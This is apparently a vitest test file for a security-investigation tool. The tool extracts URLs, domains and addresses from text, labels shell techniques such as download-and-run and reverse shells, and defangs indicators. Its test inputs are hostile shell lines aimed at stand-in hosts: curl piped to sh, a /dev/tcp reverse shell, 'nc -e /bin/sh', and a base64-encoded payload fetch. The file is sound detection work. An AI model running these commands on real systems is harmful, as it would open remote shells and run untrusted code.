import { expect, test } from 'vitest';
import { observablesOf, printableRuns, techniquesIn } from '../../src/investigate/observables.ts';
import { defang } from '../../src/model/defang.ts';

const found = (text: string): string[] => observablesOf(text).map(({ kind, value }) => `${kind} ${value}`);

test.each([
  ['curl http://Bad.Example.com:80/x.', ['url http://Bad.Example.com:80/x', 'domain bad.example.com']],
  ['bash -i >& /dev/tcp/203.0.113.9/4444', ['address 203.0.113.9']],
  ['nc -w 3 c2.attacker.zone 99', ['domain c2.attacker.zone']],
  ['ping 2001:db8::5', ['address 2001:db8::5']],
  ['wget evil.ru/z', ['domain evil.ru']],
  ['echo Y3VybCBodHRwOi8vZXZpbC50ZXN0L3BheWxvYWQgfCBzaA== | base64 -d', ['decoded curl http://evil.test/payload | sh', 'url http://evil.test/payload', 'domain evil.test']],
  ['http://user:secret@[2001:db8::7]:8/', ['url http://user:secret@[2001:db8::7]:8/', 'address 2001:db8::7']],
])('in %s there is', (text, wanted) => {
  expect(found(text)).toEqual(wanted);
});

test.each(['systemctl start foo.service', '/usr/bin/evil.sh --at 12:30:15', 'version 1.2.3', 'http://127.0.0.1:80/', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', 'a::b', '/etc/foo.conf'])('in %s there is no address of anyone', (text) => {
  expect(found(text).filter((each) => !each.startsWith('url '))).toEqual([]);
});

test.each([
  ['curl -s http://x | bash', 'downloads-and-runs'],
  ['wget -qO- x.example | sudo -E sh', 'downloads-and-runs'],
  ['bash <(curl -s http://x)', 'downloads-and-runs'],
  ['eval "$(curl http://x)"', 'downloads-and-runs'],
  ['echo aa | base64 -d | sh', 'decodes-and-runs'],
  ['exec 5<>/dev/tcp/h/1', 'reverse-shell'],
  ['nc -e /bin/sh h 1', 'reverse-shell'],
  ['crontab -', 'persists'],
])('%s is the technique %s', (text, id) => {
  expect(techniquesIn(text).map((technique) => technique.id)).toEqual([id]);
});

test.each(['curl -o /tmp/x http://x', 'crontab -l', 'apt-get update | grep x', 'ls | sh-compat', 'rm /tmp/x', 'echo done'])('%s is none', (text) => {
  expect(techniquesIn(text)).toEqual([]);
});

test.each(['curl ', 'bash $(', 'nc -e ', 'base64 ', 'http://', '1.', 'a.', '1:', 'sh ', 'rm ', 'A', 'mkfifo '])('a quarter of a MiB of %s is looked through', (part) => {
  const text = part.repeat(262_144 / part.length);
  expect(observablesOf(text).length + techniquesIn(text).length).toBeLessThan(300);
});

test.each([
  ['http://evil.com/a.b', 'hxxp://evil[.]com/a.b'],
  ['https://1.2.3.4:80/x', 'hxxps://1.2.3[.]4:80/x'],
  ['ftp://a.b.c', 'fxp://a.b[.]c'],
  ['evil.example.com', 'evil.example[.]com'],
  ['203.0.113.9', '203.0.113[.]9'],
  ['2001:db8::5', '2001:db8:[:]5'],
  ['curl http://evil.test/p | sh', 'curl hxxp://evil[.]test/p | sh'],
  ['no address here', 'no address here'],
])('%s is shown as %s', (text, wanted) => {
  expect(defang(text)).toBe(wanted);
  expect(defang(wanted)).toBe(wanted);
});

test('the readable parts of a binary', () => {
  expect(printableRuns(Buffer.from('\0\x01short\0http://evil.test/x\0\xff'))).toBe('http://evil.test/x');
});
